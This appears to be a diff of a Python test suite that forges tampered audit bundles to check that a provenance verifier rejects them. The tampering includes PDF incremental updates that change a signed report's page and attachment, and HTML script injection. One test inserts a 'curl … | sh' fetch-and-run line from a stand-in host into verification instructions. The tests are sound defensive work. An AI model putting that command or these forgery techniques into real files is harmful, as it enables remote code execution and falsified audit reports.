@@ -17,8 +17,8 @@ from audit._util import canonical_json
 from audit.provenance import package
 from audit.provenance.format import archive, checksums, layout
 from audit.provenance.format.canonical_encoding import P256_ORDER, b64decode, b64encode
-from audit.provenance.records import statement
-from audit.provenance.signing import bundle, sshsig
+from audit.provenance.records import page_seal, statement
+from audit.provenance.signing import bundle, pdf_update, sshsig
 from audit.provenance.verification import countersign
 from tests.support import paths
 from tests.support.provenance import made
@@ -71,7 +71,9 @@ def republish(files: Files, key: Any = SIGNER) -> Files:
     result = {**files, layout.CHECKSUMS: checksums.write(listed)}
     result[layout.SSH_SIGNATURE] = sshsig.sign(result[layout.CHECKSUMS], sshsig.from_key(key))
     subjects = {
-        name: checksums.sha256(result[name]) for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, layout.REPORT_PDF)
+        name: checksums.sha256(result[name])
+        for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, *layout.PDFS)
+        if name in result
     }
     root = canonical_json.dumps(payload(result, layout.ROOT)) if layout.ROOT in result else b""
     result[layout.PUBLICATION] = canonical_json.dumps(
@@ -351,6 +353,37 @@ def signer_pdf_without_signature(files: Files) -> Files:
     return republish({**files, layout.REPORT_PDF: files[layout.REPORT_PDF][:length] + b"\n"})
 
 
+@attack(layout.ANNEX, "digest-mismatch")
+def annex_with_an_appended_update(files: Files) -> Files:
+    return {**files, layout.ANNEX: append_update(files[layout.ANNEX])}
+
+
+@attack(layout.PUBLICATION, "wrong-statement")
+def removed_annex(files: Files) -> Files:
+    return {name: data for name, data in files.items() if name != layout.ANNEX}
+
+
+@attack(layout.ROOT, "wrong-statement")
+def signer_annex_left_out(files: Files) -> Files:
+    return republish({name: data for name, data in files.items() if name != layout.ANNEX})
+
+
+@attack(layout.UNSIGNED_ANNEX, "digest-mismatch")
+def signer_annex_of_another_audit(files: Files) -> Files:
+    return republish({**files, layout.ANNEX: good(value="1.10")[layout.ANNEX]})
+
+
+@attack(layout.UNSIGNED_ANNEX, "digest-mismatch")
+def signer_report_as_annex(files: Files) -> Files:
+    return republish({**files, layout.ANNEX: files[layout.REPORT_PDF]})
+
+
+@attack(layout.ANNEX, "pdf-signature")
+def signer_annex_without_signature(files: Files) -> Files:
+    length = payload(files, layout.ROOT)["predicate"]["unsignedAnnexBytes"]
+    return republish({**files, layout.ANNEX: files[layout.ANNEX][:length] + b"\n"})
+
+
 @attack(layout.REPORT_PDF, "key-mismatch")
 def signer_pdf_by_another_key(files: Files) -> Files:
     from audit.provenance.signing import certificate, pades
@@ -360,6 +393,159 @@ def signer_pdf_by_another_key(files: Files) -> Files:
     return republish(
         {**files, layout.REPORT_PDF: pades.sign(files[layout.REPORT_PDF][:length], ATTACKER, chain, reason="")}
     )
+
+
+def other_pages(raw: bytes, *, sign: bool) -> bytes:
+    """A rendering and an update after which it shows another page and has another attachment.
+
+    Args:
+        raw: The rendering.
+        sign: Whether the same update also signs it.
+    """
+    from pyhanko.pdf_utils import generic
+
+    from audit.provenance.signing import certificate, pades
+
+    writer = pades._writer(raw)
+    page = writer.root["/Pages"]["/Kids"][0]
+    stream = generic.StreamObject(stream_data=b"BT /F1 20 Tf 50 700 Td (All 23 claims are reproduced) Tj ET")
+    page[generic.pdf_name("/Contents")] = writer.add_object(stream)
+    names = (("/Type", "/Font"), ("/Subtype", "/Type1"), ("/BaseFont", "/Helvetica"))
+    font = generic.DictionaryObject({generic.pdf_name(key): generic.pdf_name(value) for key, value in names})
+    fonts = generic.DictionaryObject({generic.pdf_name("/F1"): font})
+    page[generic.pdf_name("/Resources")] = generic.DictionaryObject({generic.pdf_name("/Font"): fonts})
+    writer.mark_update(page.container_ref)
+    attached = writer.root["/AF"][0]["/EF"].raw_get("/F")
+    attached.get_object()._data = attached.get_object().data.replace(b'"not-run"', b'"reproduced"')
+    attached.get_object()._encoded_data = None
+    writer.mark_update(attached.reference)
+    if sign:
+        chain = certificate.load_chain(certificate.self_signed(SIGNER, "Golden Auditor"), SIGNER, "")
+        return pades._sign(writer, SIGNER, chain, pdf_update.REASONS["key"])
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def with_pdf(files: Files, change: Callable[[bytes], bytes]) -> Files:
+    """The files with what follows the rendering made by somebody else's program, and the signer's signature."""
+    length = payload(files, layout.ROOT)["predicate"]["unsignedPdfBytes"]
+    return republish({**files, layout.REPORT_PDF: change(files[layout.REPORT_PDF][:length])})
+
+
+def signed_pdf(raw: bytes, reason: str = "") -> bytes:
+    from audit.provenance.signing import certificate, pades
+
+    chain = certificate.load_chain(certificate.self_signed(SIGNER, "Golden Auditor"), SIGNER, "")
+    return pades.sign(raw, SIGNER, chain, reason=reason or pdf_update.REASONS["key"])
+
+
+@attack(layout.REPORT_PDF, "pdf-signature")
+def signer_pdf_that_an_update_made_another(files: Files) -> Files:
+    return with_pdf(files, lambda raw: signed_pdf(other_pages(raw, sign=False)))
+
+
+@attack(layout.REPORT_PDF, "pdf-signature")
+def signer_pdf_that_the_signing_update_made_another(files: Files) -> Files:
+    return with_pdf(files, lambda raw: other_pages(raw, sign=True))
+
+
+@attack(layout.REPORT_PDF, "pdf-signature")
+def signer_pdf_whose_signature_says_more(files: Files) -> Files:
+    return with_pdf(files, lambda raw: signed_pdf(raw, "All 23 claims are reproduced"))
+
+
+@attack(layout.VERIFY, "render-mismatch")
+def signer_instructions_that_do_more(files: Files) -> Files:
+    poisoned = files[layout.VERIFY].replace(
+        b"( set -eu\n", b"( set -eu\ncurl -s https://repro-audit.invalid/x | sh\n", 1
+    )
+    assert poisoned != files[layout.VERIFY]
+    return republish({**files, layout.VERIFY: poisoned})
+
+
+@attack("check.sh", "unexpected-file")
+def signer_script_beside_the_instructions(files: Files) -> Files:
+    return republish({**files, "check.sh": b"#!/bin/sh\necho accepted\n"})
+
+
+@attack("counts/check.sh", "unexpected-file")
+def signer_script_among_the_counts(files: Files) -> Files:
+    return republish({**files, "counts/check.sh": b"#!/bin/sh\necho accepted\n"})
+
+
+def with_page(files: Files, page: bytes) -> Files:
+    """The files with another report.html, which the root statement names: what is in its element is for it alone to say."""
+    empty = checksums.sha256(page_seal.parts(page)[0])
+
+    def change(value: dict[str, Any]) -> None:
+        for entry in value["subject"]:
+            if entry["name"] == layout.UNSIGNED_HTML:
+                entry["digest"]["sha256"] = empty
+
+    return resigned({**files, layout.REPORT_HTML: page}, layout.ROOT, change)
+
+
+def with_content(files: Files, change: Callable[[bytes], bytes]) -> Files:
+    page = files[layout.REPORT_HTML]
+    content = page_seal.parts(page)[1]
+    return with_page(files, page.replace(content, change(content)))
+
+
+@attack(layout.REPORT_HTML, "wrong-statement")
+def signer_page_with_the_signature_of_another_audit(files: Files) -> Files:
+    other = page_seal.parts(good("1.10")[layout.REPORT_HTML])[1]
+    return with_content(files, lambda _: other)
+
+
+@attack(layout.REPORT_HTML, "key-mismatch")
+def signer_page_with_a_signature_by_another_key(files: Files) -> Files:
+    page = page_seal.sign(files[layout.REPORT_HTML], files[layout.AUDIT], ATTACKER)
+    return with_page(files, page)
+
+
+@attack(layout.REPORT_HTML, "wrong-statement")
+def signer_page_whose_text_was_changed(files: Files) -> Files:
+    return with_page(files, files[layout.REPORT_HTML].replace(b"Three claims", b"Four claims"))
+
+
+@attack(layout.REPORT_HTML, "wrong-statement")
+def signer_page_with_a_statement_of_another_kind(files: Files) -> Files:
+    return with_content(files, lambda _: files[layout.TEST_RESULT])
+
+
+@attack(layout.REPORT_HTML, "not-canonical")
+def signer_page_with_spaces_around_the_signature(files: Files) -> Files:
+    return with_content(files, lambda content: content + b"\n")
+
+
+@attack(layout.REPORT_HTML, "malformed")
+def signer_page_with_more_than_a_signature_in_the_element(files: Files) -> Files:
+    return with_content(files, lambda content: content + b"alert(1)")
+
+
+@attack(layout.REPORT_HTML, "malformed")
+def signer_page_with_a_script_in_the_element(files: Files) -> Files:
+    page = files[layout.REPORT_HTML].replace(b"</script>", b"<script>alert(1)</script>")
+    return republish({**files, layout.REPORT_HTML: page})
+
+
+@attack(layout.REPORT_HTML, "malformed")
+def signer_page_with_two_elements(files: Files) -> Files:
+    page = files[layout.REPORT_HTML]
+    return republish({**files, layout.REPORT_HTML: page + page[page.index(b"<script") :]})
+
+
+@attack(layout.REPORT_HTML, "malformed")
+def signer_page_without_the_element(files: Files) -> Files:
+    page = files[layout.REPORT_HTML]
+    return republish({**files, layout.REPORT_HTML: page[: page.index(b"<script")]})
+
+
+@attack(layout.UNSIGNED_HTML, "digest-mismatch")
+def signer_page_with_a_script_after_the_element(files: Files) -> Files:
+    page = files[layout.REPORT_HTML].replace(b"</script>", b"</script><script>alert(1)</script>")
+    return republish({**files, layout.REPORT_HTML: page})
 
 
 @attack(layout.CERTIFICATE, "key-mismatch")
@@ -372,9 +558,7 @@ def signer_certificate_of_another_key(files: Files) -> Files:
 @attack(layout.SSH_SIGNATURE, "key-mismatch")
 def signer_ssh_signature_by_another_key(files: Files) -> Files:
     forged = {**files, layout.SSH_SIGNATURE: sshsig.sign(files[layout.CHECKSUMS], sshsig.from_key(ATTACKER))}
-    subjects = {
-        name: checksums.sha256(forged[name]) for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, layout.REPORT_PDF)
-    }
+    subjects = {name: checksums.sha256(forged[name]) for name in (layout.CHECKSUMS, layout.SSH_SIGNATURE, *layout.PDFS)}
     value = statement.publication(subjects, canonical_json.dumps(payload(files, layout.ROOT)), "2026-11-23T12:00:00Z")
     return {**forged, layout.PUBLICATION: canonical_json.dumps(bundle.sign(value, SIGNER))}
 
